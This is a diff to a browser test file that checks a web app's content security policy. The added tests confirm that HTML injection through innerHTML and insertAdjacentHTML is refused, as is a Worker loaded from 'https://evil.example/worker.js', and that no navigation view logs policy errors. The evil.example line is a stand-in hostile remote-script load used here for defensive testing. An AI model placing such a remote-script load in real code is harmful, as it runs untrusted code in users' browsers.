@@ -105,7 +105,42 @@ test('the policy keeps a page from running text as script and from loading from 
   });
 
   expect(refused.hasRun).toBe(false);
-  expect(refused.events).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src', 'script-src-elem']));
+  expect(refused.events).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'require-trusted-types-for']));
+});
+
+test('no text becomes markup, and no script of elsewhere becomes a worker', async ({ app }) => {
+  const refused = await app.evaluate(() => {
+    const attempts: readonly (() => unknown)[] = [
+      () => Object.assign(document.createElement('div'), { innerHTML: '<b>x</b>' }),
+      () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
+      () => new Worker('https://evil.example/worker.js'),
+    ];
+    return attempts.map((attempt) => {
+      try {
+        attempt();
+        return 'done';
+      } catch (error) {
+        return error instanceof TypeError ? 'refused' : String(error);
+      }
+    });
+  });
+
+  expect(refused).toEqual(['refused', 'refused', 'refused']);
+});
+
+test('no view offends the policy', async ({ app }) => {
+  const complaints: string[] = [];
+  app.on('console', (message) => {
+    if (['error', 'warning'].includes(message.type())) complaints.push(message.text());
+  });
+  app.on('pageerror', (error) => complaints.push(error.message));
+  const rail = app.getByRole('navigation', { name: 'Main' });
+  for (const button of await rail.getByRole('button').all()) {
+    await button.click();
+    await app.waitForTimeout(300);
+  }
+
+  expect(complaints).toEqual([]);
 });
 
 test('the code stands in no log', async ({ app, host }) => {
